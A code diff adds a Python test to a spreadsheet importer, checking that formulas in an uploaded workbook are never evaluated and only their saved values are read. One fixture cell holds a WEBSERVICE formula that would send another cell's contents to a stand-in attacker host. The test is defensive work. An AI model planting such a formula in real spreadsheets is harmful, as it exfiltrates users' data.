@@ -155,6 +155,24 @@ def test_a_workbook_is_read_from_its_first_sheet_without_parsing_the_others() ->
         assert read_file("deux.xlsx", broken) == [(date(2026, 1, 5), 3.0)]
 
 
+def test_formulas_in_a_workbook_are_never_run_only_their_saved_value_is_read() -> None:
+    saved = '<c r="B2"><f>1+1</f><v>2</v></c>'  # Excel saved the result: that is read
+    unsaved = '<c r="B3"><f>WEBSERVICE("http://attacker.example/?"&amp;A1)</f></c>'  # no result saved
+    rows = text_row(1, "date", "valeur")
+    rows += '<row r="2"><c r="A2" t="inlineStr"><is><t>05/01/2026</t></is></c>' + saved + "</row>"
+    rows += '<row r="3"><c r="A3" t="inlineStr"><is><t>06/01/2026</t></is></c>' + unsaved + "</row>"
+    with translation.override("en"), pytest.raises(TableProblems) as refused:
+        read_file("formules.xlsx", sheet(rows))
+    assert [(p.line, p.message) for p in refused.value.problems] == [
+        (3, "Expected two columns: a date and a value.")
+    ]
+    with translation.override("fr"):
+        assert read_file("formules.xlsx", sheet(rows.replace(unsaved, '<c r="B3"><v>4</v></c>'))) == [
+            (date(2026, 1, 5), 2.0),
+            (date(2026, 1, 6), 4.0),
+        ]
+
+
 @pytest.mark.parametrize(
     ("content", "message"),
     [
